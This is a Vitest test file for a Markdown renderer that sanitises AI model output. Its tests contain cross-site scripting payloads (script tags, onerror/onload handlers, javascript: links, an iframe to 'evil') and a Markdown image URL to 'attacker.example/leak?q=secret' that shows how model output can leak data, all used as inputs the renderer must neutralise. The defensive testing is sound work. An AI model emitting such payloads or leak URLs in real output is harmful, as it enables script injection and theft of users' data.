import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../src/markdown';

function dom(html: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
}

describe('renderMarkdown', () => {
  it('renders Markdown structure', () => {
    const d = dom(renderMarkdown('# Title\n\n**bold** and `code`\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |'));
    expect(d.querySelector('h1')?.textContent).toBe('Title');
    expect(d.querySelector('strong')?.textContent).toBe('bold');
    expect(d.querySelectorAll('li')).toHaveLength(2);
    expect(d.querySelector('table td')?.textContent).toBe('1');
  });

  it('highlights fenced code with a known language', () => {
    const d = dom(renderMarkdown('```python\ndef f(x):\n    return "hi"  # note\n```'));
    const code = d.querySelector('pre code')!;
    expect(code.className).toContain('language-python');
    expect(code.querySelector('.hljs-keyword')?.textContent).toBe('def');
    expect(code.querySelector('.hljs-string')?.textContent).toBe('"hi"');
    expect(code.textContent).toBe('def f(x):\n    return "hi"  # note');
  });

  it('escapes code in an unknown language instead of interpreting it', () => {
    const d = dom(renderMarkdown('```klingon\n<b>not bold</b>\n```'));
    expect(d.querySelector('pre code b')).toBeNull();
    expect(d.querySelector('pre code')?.textContent).toBe('<b>not bold</b>');
  });

  it('removes scripts, event handlers and javascript: links from model output', () => {
    const html = renderMarkdown(
      'hi <script>alert(1)</script> <img src=x onerror="alert(2)"> <a href="javascript:alert(3)">x</a> ' +
        '[y](javascript:alert(4)) <iframe src="https://evil"></iframe> <svg onload="alert(5)"></svg> <p style="position:fixed">z</p>',
    );
    const d = dom(html);
    expect(d.querySelector('script, iframe')).toBeNull();
    expect(html).not.toMatch(/onerror|onload|javascript:|alert\(|style=/i);
    expect(d.querySelector('img')).toBeNull();  // a non-data: image becomes a link
    expect(d.querySelector('a.remote-image')?.getAttribute('href')).toBe('x');
  });

  it('makes links open in a new tab without an opener', () => {
    const a = dom(renderMarkdown('[site](https://example.com)')).querySelector('a')!;
    expect(a.getAttribute('target')).toBe('_blank');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('shows remote images as links instead of loading them', () => {
    const d = dom(renderMarkdown('look ![chart](https://attacker.example/leak?q=secret) and <img src="//evil.example/x.png" alt="x">'));
    expect(d.querySelector('img')).toBeNull();
    const links = Array.from(d.querySelectorAll('a.remote-image')) as HTMLAnchorElement[];
    expect(links).toHaveLength(2);
    expect(links[0].getAttribute('href')).toBe('https://attacker.example/leak?q=secret');
    expect(links[0].textContent).toContain('[image: chart]');
    expect(links[0].rel).toContain('noopener');
  });

  it('keeps inline data: images', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const d = dom(renderMarkdown(`![dot](${png})`));
    expect(d.querySelector('img')?.getAttribute('src')).toBe(png);
  });
});
